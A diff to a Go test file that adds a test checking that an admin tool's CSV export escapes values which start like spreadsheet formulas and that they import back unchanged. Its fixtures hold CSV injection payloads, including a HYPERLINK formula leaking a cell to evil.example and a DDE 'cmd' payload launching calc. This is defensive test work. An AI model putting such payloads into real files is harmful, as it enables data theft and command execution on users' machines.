@@ -3,14 +3,18 @@ package admin_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"errors"
 	"fmt"
+	"io"
+	"slices"
 	"strings"
 	"testing"
 	"time"
 
 	"github.com/acv/acv/api/contract"
 	"github.com/acv/acv/internal/admin"
+	"github.com/acv/acv/internal/safecsv"
 	"github.com/acv/acv/store"
 )
 
@@ -146,3 +150,127 @@ func TestImportCapsTheErrorList(t *testing.T) {
 }
 
 func ptr[T any](v T) *T { return &v }
+
+// formulaStarts are the first characters a spreadsheet reads as a formula, or skips before
+// looking for one.
+const formulaStarts = "=+-@\t\r\n"
+
+// TestExportImportRoundTripsFormulaCells: an export of codes and verified_by values that start
+// like formulas has no cell a spreadsheet would run, and reads back (safecsv) and imports
+// (acv codes import, the console's and the admin API's import) as exactly the values it held —
+// values that themselves start with the apostrophe the export adds included.
+func TestExportImportRoundTripsFormulaCells(t *testing.T) {
+	a, _, pid := newAdmin(t)
+	ctx := context.Background()
+	// Code values the contract allows (printable, no control characters), each with the
+	// verified_by its verification recorded. The API refuses a tab or CR in verified_by; the
+	// store holds what it is given, and the export must be safe for it all the same.
+	verifiedBy := map[string]string{
+		"=1+2":                          `=HYPERLINK("http://evil.example/?"&A1,"open")`,
+		`=HYPERLINK("http://evil","x")`: "+1+cmd|' /C calc'!A0",
+		"+31-6-1234":                    "-2+3",
+		"-5":                            "@SUM(A1:A9)",
+		"@SUM(A1)":                      "\t=1+2",
+		"'=quoted":                      "\r=1+2",
+		"''=twice":                      "'=quoted",
+		"'plain":                        "'",
+		"'":                             "''",
+		"a=b":                           "'plain",
+		`c,"d"`:                         "till 4",
+		"PLAIN-1":                       "",
+	}
+	var codes []store.NewCode
+	for v := range verifiedBy {
+		codes = append(codes, store.NewCode{Code: v})
+	}
+	rows, err := a.Store.InsertCodes(ctx, pid, codes)
+	if err != nil || len(rows) != len(codes) {
+		t.Fatalf("insert %d codes: %d, %v", len(codes), len(rows), err)
+	}
+	now := time.Now().Unix()
+	for _, r := range rows {
+		if by := verifiedBy[r.Code]; by != "" {
+			if err := a.Store.ApplySnapshot(ctx, contract.CodeRecord{ID: r.ID, VerifiedAtMs: now * 1000, VerifiedBy: by, Version: 1}); err != nil {
+				t.Fatalf("verify %q: %v", r.Code, err)
+			}
+		}
+	}
+	var out bytes.Buffer
+	if n, err := a.ExportCSV(ctx, pid, now, &out); err != nil || n != len(codes) {
+		t.Fatalf("export: %d, %v", n, err)
+	}
+
+	// What a spreadsheet parses: no cell starts a formula.
+	raw, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
+	if err != nil || len(raw) != len(codes)+1 {
+		t.Fatalf("export has %d rows, %v:\n%s", len(raw), err, out.String())
+	}
+	for _, r := range raw {
+		for _, cell := range r {
+			if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
+				t.Errorf("export cell %q starts a formula", cell)
+			}
+		}
+	}
+
+	// What the import's reader sees: the values themselves.
+	rd := safecsv.NewReader(bytes.NewReader(out.Bytes()))
+	if h, err := rd.Read(); err != nil || h[1] != "code" || h[6] != "verified_by" {
+		t.Fatalf("header %q, %v", h, err)
+	}
+	seen := 0
+	for {
+		r, err := rd.Read()
+		if errors.Is(err, io.EOF) {
+			break
+		}
+		if err != nil {
+			t.Fatal(err)
+		}
+		by, ok := verifiedBy[r[1]]
+		if !ok || r[6] != by {
+			t.Errorf("read back code %q verified_by %q; want one of the exported codes and %q", r[1], r[6], by)
+		}
+		seen++
+	}
+	if seen != len(codes) {
+		t.Errorf("read back %d rows, want %d", seen, len(codes))
+	}
+
+	// What the import creates: the same code values, nothing else.
+	other, err := a.CreateProject(ctx, store.NewProject{Name: "copy"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	rep, err := a.ImportCSV(ctx, other.ID, bytes.NewReader(out.Bytes()), admin.ImportOptions{})
+	if err != nil || rep.Read != len(codes) || rep.Inserted != len(codes) {
+		t.Fatalf("import of the export: %+v, %v", rep, err)
+	}
+	for v := range verifiedBy {
+		if _, err := a.Store.CodeByValue(ctx, other.ID, v); err != nil {
+			t.Errorf("code %q not imported as itself: %v", v, err)
+		}
+	}
+	var again bytes.Buffer
+	if _, err := a.ExportCSV(ctx, other.ID, now, &again); err != nil {
+		t.Fatal(err)
+	}
+	if got := codeColumn(t, again.Bytes()); !slices.Equal(got, codeColumn(t, out.Bytes())) {
+		t.Errorf("codes after export → import → export: %q, want %q", got, codeColumn(t, out.Bytes()))
+	}
+}
+
+// codeColumn is the sorted code cells of an export, as it is written (escaped).
+func codeColumn(t *testing.T, export []byte) []string {
+	t.Helper()
+	recs, err := csv.NewReader(bytes.NewReader(export)).ReadAll()
+	if err != nil || len(recs) == 0 {
+		t.Fatalf("export: %d rows, %v", len(recs), err)
+	}
+	var vs []string
+	for _, r := range recs[1:] {
+		vs = append(vs, r[1])
+	}
+	slices.Sort(vs)
+	return vs
+}
